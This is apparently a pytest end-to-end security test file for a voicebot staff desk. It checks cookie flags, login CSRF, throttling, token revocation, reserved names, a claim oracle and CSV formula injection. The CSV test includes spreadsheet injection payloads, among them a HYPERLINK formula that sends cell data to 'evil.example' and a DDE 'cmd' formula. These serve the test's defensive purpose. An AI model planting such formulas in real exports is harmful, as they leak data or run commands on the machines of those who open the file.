"""The staff desk's findings, through a real server: the session cookie behind a
TLS proxy (2), log-in CSRF (3), the claim existence oracle (9), CSV formula
injection (8), tokens that outlived a password change, reserved user names,
and log-in throttling that locks no one out."""

from __future__ import annotations

import csv
import io
import json

import aiohttp
import pytest

from voicebot.asr.fake import FakeEngine

from ..conftest import STAFF_TOKEN
from ..staff_helpers import KNOWLEDGE, PASSWORD, Client, make_staff, seed_call, utterance

pytestmark = [pytest.mark.e2e, pytest.mark.security]
PERSON = [utterance("i want to speak to a person", 0.9, 1.0, "human")]


async def login(server, body: object, headers: dict[str, str] | None = None,
                as_json: bool = True) -> aiohttp.ClientResponse:
    async with aiohttp.ClientSession() as http:
        send = {"json": body} if as_json else {"data": body}
        async with http.post(server.http + "/api/staff/login", headers=headers or {},
                             **send) as r:
            await r.read()
            return r


async def test_session_cookie_is_secure_behind_the_tls_proxy(start_server):
    proxied = await start_server(FakeEngine(), public_url="https://desk.example.com")
    await make_staff(proxied.http)
    r = await login(proxied, {"name": "ann", "password": PASSWORD})
    cookie = r.cookies["voicebot_desk"]
    assert r.status == 200 and cookie["secure"] and cookie["httponly"]
    assert cookie["samesite"] == "Strict"

    local = await start_server(FakeEngine(), trusted_proxies=("127.0.0.1",))  # no public URL
    await make_staff(local.http)
    r = await login(local, {"name": "ann", "password": PASSWORD},
                    {"X-Forwarded-Proto": "https"})
    assert r.status == 200 and r.cookies["voicebot_desk"]["secure"]
    r = await login(local, {"name": "ann", "password": PASSWORD})
    assert r.status == 200 and not r.cookies["voicebot_desk"]["secure"]  # plain http, tried locally


async def test_login_takes_only_json_so_a_cross_site_form_cannot_log_in(start_server):
    server = await start_server(FakeEngine())
    await make_staff(server.http)
    text = f'{{"name": "ann", "password": "{PASSWORD}"}}'
    for body, headers in ((text, {"Content-Type": "text/plain"}),
                          ({"name": "ann", "password": PASSWORD}, {})):  # a form post
        r = await login(server, body, headers, as_json=False)
        assert r.status == 415 and "voicebot_desk" not in r.cookies
    assert (await login(server, {"name": "ann", "password": PASSWORD})).status == 200


async def test_guessing_is_slowed_per_source_and_locks_no_one_out(start_server):
    server = await start_server(FakeEngine(), trusted_proxies=("127.0.0.1",))
    await make_staff(server.http)
    attacker, victim = {"X-Forwarded-For": "203.0.113.7"}, {"X-Forwarded-For": "198.51.100.9"}
    statuses = []
    for i in range(30):  # the victim's name first, then guesses spread over many names
        name = "ann" if i < 6 else f"user{i}"
        r = await login(server, {"name": name, "password": "guess"}, attacker)
        statuses.append(r.status)
        if r.status == 429:
            assert 1 <= int(r.headers["Retry-After"]) <= 60
            break
    assert statuses[:10] == [401] * 10 and statuses[-1] == 429, statuses
    r = await login(server, {"name": "bob", "password": PASSWORD}, attacker)
    assert r.status == 429  # even a right password waits: the source is slowed, not a name
    assert (await login(server, {"name": "ann", "password": PASSWORD}, victim)).status == 200


async def test_a_password_change_revokes_the_users_api_tokens(start_server):
    server = await start_server(FakeEngine())
    staff = await make_staff(server.http)
    ann = staff["ann"]
    assert (await ann.get("/api/staff/me"))[0] == 200
    status, _ = await Client(server.http, STAFF_TOKEN).call(
        "PATCH", "/api/staff/users/ann", {"password": "a new password 42"})
    assert status == 200
    assert (await ann.get("/api/staff/me"))[0] == 401


async def test_names_of_the_audit_log_are_reserved(start_server):
    server = await start_server(FakeEngine())
    admin = Client(server.http, STAFF_TOKEN)
    for name in ("bootstrap-admin", "Bootstrap-Admin", "cli"):
        status, body = await admin.post("/api/staff/users", {"name": name, "role": "admin",
                                                             "password": PASSWORD})
        assert status == 400 and "reserved" in body["error"], name
    _, audit = await admin.get("/api/staff/audit")
    assert not [e for e in audit["audit"] if e["action"] == "add_user"]


async def test_claiming_a_call_an_agent_may_not_see_is_a_404_like_reading_it(start_server):
    server = await start_server(FakeEngine(), knowledge_dir=KNOWLEDGE)
    staff = await make_staff(server.http)
    await seed_call(server, "call-1", PERSON)
    assert (await staff["ann"].post("/api/transfers/call-1/claim"))[0] == 200
    read = await staff["bob"].get("/api/calls/call-1")
    claim = await staff["bob"].post("/api/transfers/call-1/claim")
    assert read == claim == (404, {"error": "no such call"})  # nothing says who holds it


async def test_feedback_export_neutralises_spreadsheet_formulas(start_server):
    server = await start_server(FakeEngine(), knowledge_dir=KNOWLEDGE)
    staff = await make_staff(server.http)
    await seed_call(server, "call-1", PERSON)
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"ok")', "+1+cmd|'/c calc'!A0",
                "-2+3", "@SUM(1)"]
    for formula in formulas:
        status, _ = await staff["sue"].post("/api/calls/call-1/feedback", {
            "kind": "other", "comment": formula, "correction": formula})
        assert status == 201
    status, text = await staff["sue"].get("/api/feedback?format=csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert status == 200 and [r["comment"] for r in rows] == ["'" + f for f in formulas]
    assert [r["correction"] for r in rows] == ["'" + f for f in formulas]
    status, jsonl = await staff["sue"].get("/api/feedback?format=jsonl")
    first = json.loads(jsonl.splitlines()[0])
    assert first["comment"] == formulas[0]  # the JSON export keeps the text as written
